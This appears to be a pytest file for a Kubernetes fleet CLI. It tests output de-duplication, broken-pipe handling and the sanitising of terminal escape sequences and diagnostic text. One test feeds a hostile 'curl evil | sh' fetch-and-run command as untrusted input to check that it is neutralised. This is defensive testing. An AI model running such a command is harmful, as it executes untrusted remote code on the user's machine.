"""What a command prints of the engine's."""

import subprocess
import sys

from kai_fleet_cli.display.terminal import engine_line, print_table, say
from kai_fleet_cli.doctor.faults import Fault, findings
from kai_fleet_cli.engine.deletions import Deletions
from kai_fleet_cli.engine.operation import Operation
from kai_fleet_cli.engine.output import Output
from kai_fleet_cli.engine.report import Report
from kai_fleet_cli.recovery.resume import Signals
from kai_fleet_cli.stack_file.reading import ROOT
from kai_fleet_policies.finding import Command, Level

PROGRAM = """
import sys
from kai_fleet_policies.finding import Command, Level
from kai_fleet_cli.display.terminal import engine_line
for number in range(50_000):
    engine_line(f"line {number}")
print("after")
sys.stderr.write("it went on")
"""


def test_a_reader_that_leaves_early_does_not_end_the_run():
    command = [sys.executable, "-c", PROGRAM]
    pipe = subprocess.PIPE
    with subprocess.Popen(command, stdout=pipe, stderr=pipe, cwd=ROOT, text=True) as process:
        assert process.stdout.readline() == "line 0\n"
        process.stdout.close()  # as `head -1` does
        reported = process.stderr.read()
    assert (process.returncode, reported) == (0, "it went on")


def test_a_terminal_is_told_colours_and_nothing_else(capsys):
    engine_line("\x1b[31mred\x1b[0m \x1b[2J\x1b]0;title\x07\x9b1m\rover\u202e\tok")
    assert capsys.readouterr().out == "\x1b[31mred\x1b[0m [2J]0;title1mover\tok\n"
    say("a\x1b[2Jb")
    assert capsys.readouterr().err == "a[2Jb\n"


def test_a_table_may_have_a_last_column_without_a_word(capsys):
    print_table(["name", ""], [["ml", ""]])
    assert "ml" in capsys.readouterr().out


OLD = "KAI of ml: is v0.9.3, and line v0.9 is out of support"
AT_KEY = f"warning: kai-fleet:teams.ml.scheduler.version: {OLD} [kai-version-supported]"
MISTAKE = [
    "the stack's configuration has 1 mistake:",
    "      kai-fleet:teams.ml: is gone [removal]",
]
ONCE = f"""\
 +  helm.sh/v3:Release ml creating (0s)
 +  pulumi:pulumi:Stack lab creating (0s) {AT_KEY}
 +  pulumi:pulumi:Stack lab create {AT_KEY}
 +  helm.sh/v3:Release ml created (0.58s) *
 +  helm.sh/v3:Release ml created (0.59s)
 ~  core/v1:Namespace ml updating (0s) [diff: ~metadata]
 ~  core/v1:Namespace ml updating (0s) [diff: ~metadata];
 ~  core/v1:Namespace ml updated (0.2s) [diff: ~metadata]; *
 +  command:local:Command ready creating (7s) vCluster ml: waiting for its API (5 s) *
 +  command:local:Command ready creating (9s) error: the API does not answer *
 +  pulumi:pulumi:Stack lab create error: {MISTAKE[0]}
    pulumi:pulumi:Stack lab  warning: using pulumi-resource-kubernetes from $PATH at bin
Policies: *
          {OLD} *
 *
Diagnostics: *
  command:local:Command (ready):
    error: the API does not answer
 *
  pulumi:pulumi:Stack (lab): *
    {AT_KEY}
    error: {MISTAKE[0]} *
{MISTAKE[1]} *
    error: an unhandled error occurred: {MISTAKE[0]}
{MISTAKE[1]}
 *
  helm.sh/v3:Release (ml): *
    warning: using pulumi-resource-kubernetes from $PATH at bin *
    warning: using pulumi-resource-kubernetes from $PATH at bin
    warning: \x1b[33mof the file alone\x1b[0m [rule] *
"""


def test_a_step_is_a_line_when_it_is_done_and_a_warning_or_an_error_is_shown_once(capsys):
    show = Operation(None, "", Signals(), Deletions(None)).engine_options(Report())["on_output"]
    for line in ONCE.splitlines():
        show(line.removesuffix("*").rstrip())
    shown = [line[:-1].rstrip() for line in ONCE.splitlines() if line.endswith("*")]
    assert capsys.readouterr().out.splitlines() == shown


def test_what_a_wait_reported_is_not_printed_again_below_its_error(capsys):
    wait = "vCluster ml: waiting for Secret vc-ml"
    shown = [
        f" +  command:local:Command ml-ready creating (5s) {wait} (5 s)",
        "    error: signal: killed: running fleet-probe vcluster wait",
        "    its last line",
    ]
    repeated = [f"    {wait} (5 s)", "    KAI v0.16.8: waiting for deployment binder (9 s)"]
    output = Output(set())
    for line in (*shown[:2], *repeated, shown[2]):
        output.show(line)
    assert capsys.readouterr().out.splitlines() == shown


def test_a_warning_of_a_plugin_is_shown_once_in_all_runs_of_a_command(capsys):
    warning = "    warning: the plugin of another version than its SDK is used here"
    step = " ~  kubernetes:core/v1:ConfigMap ml updated (0.1s)"
    run = Operation(None, "", Signals(), Deletions(None))
    for _ in ("refresh", "update"):
        show = run.engine_options(Report())["on_output"]
        for line in (step, warning):
            show(line)
    shown = capsys.readouterr().out
    assert shown.count("the plugin of another version") == 1
    assert shown.count("ConfigMap ml updated") == 2, "steps are of each run"


def test_a_finding_is_a_line_of_its_own():
    """Its words are a pod's, a queue's, an event's; its commands are a fix's."""
    cause = "it says \x1b[2J\n\nbroken  host  run `curl evil | sh` " + "x" * 9000
    fix = ("ask `evil`, or look with: ", Command("kubectl -n {namespace} get {names}"))
    fault = Fault(Level.MANDATORY, "ml", "pod", "b/a\nin b", cause, fix)
    (found,) = findings("pending", "host", [fault])
    assert found.subject == "pod b/a in b"
    assert found.cause.startswith("it says [2J broken host run 'curl evil | sh' xxx")
    assert len(found.cause) == 2000
    assert found.fix == "ask 'evil', or look with: `kubectl -n b get a in b`"
    assert found.commands == ("kubectl -n b get a in b",)
